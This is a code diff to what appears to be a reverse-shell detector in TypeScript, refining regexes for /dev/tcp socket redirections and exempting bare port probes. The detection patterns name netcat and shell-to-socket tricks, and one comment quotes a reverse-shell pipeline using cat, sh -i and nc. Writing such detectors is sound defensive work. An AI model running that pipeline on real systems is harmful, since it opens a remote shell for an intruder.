@@ -1,3 +1,4 @@
+import { toOperands } from '../reading/command_facts';
 import { toPipeline } from '../reading/to_pipeline';
 import { seeIf } from './sign_rule';
 import type { SignRule } from './sign_rule';
@@ -22,7 +23,9 @@ export const SHELL_SIGNS: readonly SignRule[] = [
     technique: 'T1059.004',
     inLayer: ({ language, text }) => {
       if (language === 'text') return undefined;
-      const isFile = SOCKET_FILE.test(text) && /\bexec\b|-i\b|<&|>&|0>|\bcat\b|\bsh\b/.test(text);
+      const isFile =
+        SOCKET_FILE.test(text) &&
+        /\bexec\b|-i\b|<&|>&|0>|\bsh\s*[<|]|<\s*\/dev\/(?:tcp|udp)/.test(text);
       const isCode =
         language !== 'shell' &&
         CODE_SOCKET.test(text) &&
@@ -35,8 +38,13 @@ export const SHELL_SIGNS: readonly SignRule[] = [
       const isToSocket = redirections.some(({ target }) => SOCKET_FILE.test(target));
       // `cat f | sh -i | nc host port > f`
       const isJoinedToShell = toPipeline(command, tree).some(isBareShell);
-      if (isToSocket)
-        return seeIf(true, SHELL_NAMES.test(program) || program === 'exec' ? 97 : 85, text);
+      if (isToSocket) {
+        // `echo > /dev/tcp/db/5432` asks whether somebody listens, as a shell behind it would not.
+        const isAsked = /^(?:true|:|echo|cat)?$/.test(program) && toOperands(command).length === 0;
+        return isAsked
+          ? undefined
+          : seeIf(true, SHELL_NAMES.test(program) || program === 'exec' ? 97 : 85, text);
+      }
       if (NETCATS.test(program) && !isListening(args)) {
         return seeIf(hasExecution(args), 96, text) ?? seeIf(isJoinedToShell, 94, text);
       }
